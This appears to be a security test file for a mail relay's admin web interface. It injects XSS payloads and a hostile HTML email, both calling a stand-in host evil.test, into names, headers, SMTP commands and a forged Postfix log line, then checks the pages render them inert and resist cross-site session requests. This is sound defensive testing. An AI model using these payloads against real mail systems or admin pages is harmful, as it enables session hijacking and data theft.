// Everything that mail, a client, a remote server or a line of Postfix's log can
// fill has a script in it. All of it must be on the pages, as text.

import assert from "node:assert/strict";
import { appendFile } from "node:fs/promises";
import { createServer } from "node:http";
import { after, before, describe, it } from "node:test";
import * as t from "./browser.mjs";

// A text that acts wherever it gets into a page as HTML, an attribute, a script
// or an address; in the tests of this file `where` tells its way.
const evil = (where) =>
  `${where}'"><img src=http://evil.test/${where} onerror=pwned("${where}")>` +
  `<script>pwned("${where}")</script><svg onload=pwned('${where}')>`;

// The same where only one word is allowed.
const evilWord = (where) => `${where}<img/src=x/onerror=pwned('${where}')>`;

const evilHtml = (port) => `<!doctype html><html><head>
<base href="http://evil.test/">
<meta http-equiv="refresh" content="0;url=http://evil.test/refresh">
<link rel="stylesheet" href="http://evil.test/style.css">
<link rel="prefetch" href="http://evil.test/prefetch">
<link rel="dns-prefetch" href="//evil.test"><link rel="preconnect" href="//evil.test">
<style>@import "http://evil.test/import.css";
@font-face { font-family: f; src: url(http://evil.test/font) }
body { font-family: f; background: url(http://127.0.0.1:${port}/background) }</style>
<script>pwned("html")</script><script src="http://evil.test/script.js"></script>
</head><body onload="pwned('onload')">
<h1>The body of a hostile email</h1>
<img src="http://evil.test/pixel.gif" onerror="pwned('onerror')">
<img src="http://127.0.0.1:${port}/pixel.gif" srcset="//evil.test/a 2x">
<img src="${t.admin}/admin/session">
<svg onload="pwned('svg')"><script>pwned("svg script")</script>
<image href="http://evil.test/image"/></svg>
<iframe src="http://evil.test/frame"></iframe>
<iframe srcdoc="<script>parent.pwned('srcdoc')</script>"></iframe>
<iframe src="javascript:parent.pwned('javascript')"></iframe>
<object data="http://evil.test/object"></object><embed src="http://evil.test/embed">
<video src="http://evil.test/video" poster="http://evil.test/poster" autoplay></video>
<audio src="http://evil.test/audio" autoplay></audio>
<form action="http://evil.test/form"><input name="password" autofocus
 onfocus="pwned('focus')"><button>Send the form</button></form>
<details open ontoggle="pwned('toggle')"><summary>More</summary></details>
<a href="javascript:pwned('link')" ping="http://evil.test/ping">A link that runs</a>
<a href="http://evil.test/link" target="_top">A link that leads away</a>
<script>document.forms[0].submit()</script>
<p>The end of a hostile email</p></body></html>`;


let tenant, owner, ids;

// With that name before an address.
const mailbox = (where, address) =>
  `"${evil(where).replaceAll('"', '\\"')}" <${address}>`;

async function form(fields) {
  const body = new FormData();
  for (const [name, value] of Object.entries(fields)) body.append(name, value);
  const answer = await fetch(`${t.api}/v3/${tenant.domain}/messages`, {
    method: "POST",
    headers: { Authorization: `Basic ${btoa(`api:${tenant.key}`)}` },
    body,
  });
  assert.equal(answer.status, 200, await answer.text());
}

const sql = (statement) =>
  t.run("sqlite3", [
    "-cmd",
    ".timeout 20000",
    `${process.env.POSTERN_DIR}/store/postern.db`,
    statement,
  ]);

// An email that a forged line of Postfix's log speaks of.
async function forgeLog() {
  const id = await t.send(tenant, { to: "later@remote.test", subject: "Log" });
  const queueId = await t.waitFor("the queue id", async () =>
    (await sql(`SELECT queue_id FROM email WHERE id = '${id}'`)).trim(),
  );
  await appendFile(
    `${process.env.POSTERN_DIR}/log/postfix.log`,
    `Nov 22 08:00:00 mail postfix/smtp[1]: ${queueId}: to=<later@remote.test>,` +
      ` relay=${evilWord("relay")}[192.0.2.1]:25, delay=1, delays=0/0/0/1,` +
      ` dsn=5.0.0, status=bounced (${evil("log")})\n`,
  );
  return id;
}

async function fill() {
  const company = t.unique("company");
  tenant = await t.newTenant(evil(company));
  owner = await t.newUser({ company: tenant.id });
  const own = ["--company", tenant.id];
  await t.postern(
    ["user", "add", t.unique(evilWord("user")), ...own],
    t.unique("password"),
  );
  await t.postern(["key", "create", ...own, "--name", evil("key")]);
  await t.postern(["exempt", "add", tenant.domain, "--login", evil("login")]);
  // No way in lets such a name pass; should there be one, it is text, too.
  const domain = `${t.unique("domain")}.example`;
  await t.postern(["domain", "add", domain, ...own]);
  await sql(
    `UPDATE domain SET name = '${evil(t.unique("domain")).replaceAll("'", "''")}'` +
      ` WHERE name = '${domain}'`,
  );
  const to = "ann@remote.test";
  const send = (fields) => t.send(tenant, { to, ...fields });
  ids = {
    subject: await send({ subject: evil("subject") }),
    from: await send({ from: mailbox("from", `hello@${tenant.domain}`) }),
    to: await send({ to: mailbox("to", to), cc: mailbox("cc", to) }),
    replyTo: await send({ reply_to: mailbox("reply", to) }),
    recipient: await send({ to: `"${evilWord("local")}"@remote.test` }),
    headers: await send({ headers: { "X-Evil": evil("header") } }),
    text: await send({ text: evil("text") }),
    html: await send({ html: evilHtml((await t.browser()).trap.port) }),
    file: await send({
      attachments: [{ filename: evil("file"), content: "eA==" }],
    }),
    remote: await send({ to: "evil@remote.test" }),
    log: await forgeLog(),
  };
  await form({
    from: `hello@${tenant.domain}`,
    to,
    subject: "Tag",
    text: "x",
    "o:tag": evil("tag"),
    "v:x": evil("variable"),
  });
  // Mail without a key, which the rules refuse.
  const said = await t.smtp(
    `EHLO ${evilWord("helo")}`,
    `XCLIENT LOGIN=${evilWord("xclient").replace("=", "+3D")}`,
    "EHLO mail.example",
    `MAIL FROM:<"${evilWord("sender")}"@${tenant.domain}>`,
    "RCPT TO:<ann@dst.test>",
    "DATA",
    `From: ${mailbox("header-from", `"${evilWord("claimed")}"@${tenant.domain}`)}\r\n` +
      `To: ann@dst.test\r\nSubject: ${evil("refused")}\r\n\r\nx\r\n.`,
  );
  assert.match(said.at(-1), /^550 /);
  for (const id of [ids.remote, ids.log])
    await t.waitFor(`the bounce of ${id}`, async () =>
      /bounced/.test(await sql(`SELECT last_event FROM email WHERE id = '${id}'`)),
    );
}

before(async () => {
  await fill();
});

it("a script that runs and a request that leaves would be seen", async () => {
  const control = await t.Browser.open();
  const visitor = await control.visitor();
  await visitor.page.setContent(evilHtml(control.trap.port));
  await t.waitFor("a script", () =>
    visitor.faults.some((text) => text.includes("PWNED html")),
  );
  await t.waitFor("a request", () =>
    control.trap.caught.some((text) => text.includes("evil.test")),
  );
  await t.waitFor("a request to a port of this host", () =>
    control.trap.caught.some((text) => text.startsWith("GET /pixel.gif")),
  );
  await assert.rejects(visitor.leave({ hostile: true }));
  await control.close(control.trap.caught);
});

// The text of a page and of what its buttons for views show.
async function read(visitor) {
  const main = visitor.page.getByRole("main");
  await visitor.settled();
  let text = await main.innerText();
  for (const tab of await main.getByRole("tab").all()) {
    await tab.click();
    await visitor.settled();
    text += await main.innerText();
  }
  return text;
}

describe("hostile text", () => {
  it("is text on every page", async () => {
    const visitor = await t.visitor({ user: owner });
    let text = "";
    await visitor.go("");
    const links = visitor.page
      .getByRole("navigation", { name: "Pages" })
      .getByRole("link");
    for (const title of await links.allTextContents()) {
      if (title === "Log out") continue;
      await visitor.follow(title);
      text += await read(visitor);
    }
    for (const id of Object.values(ids)) {
      await visitor.go(`emails/${id}`);
      text += await read(visitor);
    }
    for (const where of [
      "subject", "from", "to", "reply", "text", "key", "login", "remote", "log",
    ])
      assert.ok(
        text.includes(`<img src=http://evil.test/${where} onerror`),
        `${where} is not to be seen`,
      );
    for (const where of ["user", "local", "claimed", "xclient", "relay"])
      assert.ok(text.includes(`${where}<img/src`), `${where} is not to be seen`);
    await visitor.leave({ hostile: true });
  });

  it("is text to an operator", async () => {
    const visitor = await t.visitor({ user: await t.newUser() });
    for (const place of ["", "domains", "keys", "users", "audit", "settings"]) {
      await visitor.go(place);
      await read(visitor);
    }
    await visitor.leave({ hostile: true });
  });
});

describe("the HTML of an email", () => {
  const END = "The end of a hostile email";

  it("is shown, and does nothing, whatever is clicked", async () => {
    const visitor = await t.visitor({ user: owner });
    const { page } = visitor;
    await visitor.go(`emails/${ids.html}`);
    const tab = page.getByRole("tab", { name: "HTML" });
    await tab.click();
    const frame = page.frameLocator("main iframe");
    await frame.getByText(END).waitFor();
    for (const target of [
      frame.getByText("A link that runs"),
      frame.getByText("A link that leads away"),
      frame.getByText("Send the form"),
    ]) {
      await target.click();
      // The page is still there, and so is the email after a reload.
      await page.reload();
      await visitor.settled();
      await tab.click();
      await frame.getByText(END).waitFor();
    }
    await visitor.leave({ hostile: true });
  });

  it("does nothing at its own address, either", async () => {
    const visitor = await t.visitor({ user: owner });
    const answer = await visitor.page.goto(`/admin/emails/${ids.html}/html`);
    assert.equal(answer.status(), 200);
    await visitor.page.getByText(END).waitFor();
    assert.match(answer.headers()["content-security-policy"], /sandbox/);
    await visitor.leave({ hostile: true });
  });
});

// Another server of the same host name: another origin, but the same site, so the browser sends it
// the cookie, and sends the cookie along with what its pages ask of us.
describe("a page of another server on this host", () => {
  let server, url;

  before(async () => {
    server = createServer((request, answer) => {
      answer.setHeader("Content-Type", "text/html");
      answer.end("<!doctype html><title>Another</title><body>");
    });
    await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
    url = `http://127.0.0.1:${server.address().port}/`;
  });
  after(() => server.close());

  it("changes nothing, reads nothing, and frames nothing", async () => {
    const visitor = await t.visitor({ user: owner });
    const { page } = visitor;
    const changes = [];
    visitor.context.on("response", (response) => {
      const method = response.request().method();
      if (response.url().startsWith(t.admin) && method !== "GET")
        changes.push(`${method} ${response.status()}`);
    });
    await page.goto(url);
    const tried = await page.evaluate(async (admin) => {
      const session = `${admin}/admin/session`;
      const ask = (options) =>
        fetch(session, { credentials: "include", ...options })
          .then(async (answer) => answer.text(), () => "nothing");
      const login = JSON.stringify({ login: "a", password: "b" });
      const event = (thing, ...names) => new Promise((resolve) => {
        for (const name of names)
          thing.addEventListener(name, () => resolve(name));
      });
      const load = (tag, attributes) => {
        const element = Object.assign(document.createElement(tag), attributes);
        document.body.append(element);
        return event(element, "load", "error");
      };
      const frame = document.createElement("iframe");
      frame.src = `${admin}/`;
      document.body.append(frame);
      await event(frame, "load");
      return {
        read: await ask({}),
        readOpaque: await ask({ mode: "no-cors" }),
        logIn: await ask({ method: "POST", mode: "no-cors", body: login }),
        logInByJson: await ask({
          method: "POST", body: login, headers: { "Content-Type": "application/json" },
        }),
        logOut: await ask({ method: "DELETE" }),
        stream: await event(new EventSource(`${admin}/admin/live`, { withCredentials: true }),
          "open", "error"),
        socket: await event(new WebSocket(`${admin.replace("http", "ws")}/admin/live`),
          "open", "error"),
        script: await load("script", { src: session }),
        style: await load("link", { rel: "stylesheet", href: `${admin}/web/style.css` }),
        image: await load("img", { src: session }),
        framed: frame.contentWindow.length,
      };
    }, t.admin);
    assert.deepEqual(tried, {
      read: "nothing", readOpaque: "nothing", logIn: "nothing", logInByJson: "nothing",
      logOut: "nothing", stream: "error", socket: "error", script: "error", style: "error",
      image: "error", framed: 0,
    });
    await page.evaluate((admin) => {
      const form = document.createElement("form");
      Object.assign(form, { method: "POST", enctype: "text/plain" });
      form.action = `${admin}/admin/session`;
      document.body.append(form);
      form.submit();
    }, t.admin);
    await page.waitForURL(`${t.admin}/**`);
    // That of the form; the browser keeps other answers to itself.
    assert.ok(changes.includes("POST 403"), `${changes}`);
    assert.deepEqual(changes.filter((change) => !/^POST 403$|^OPTIONS 4/.test(change)), []);
    await page.goto("/");
    await visitor.see("Overview");
    await visitor.leave({ hostile: true });
  });
});
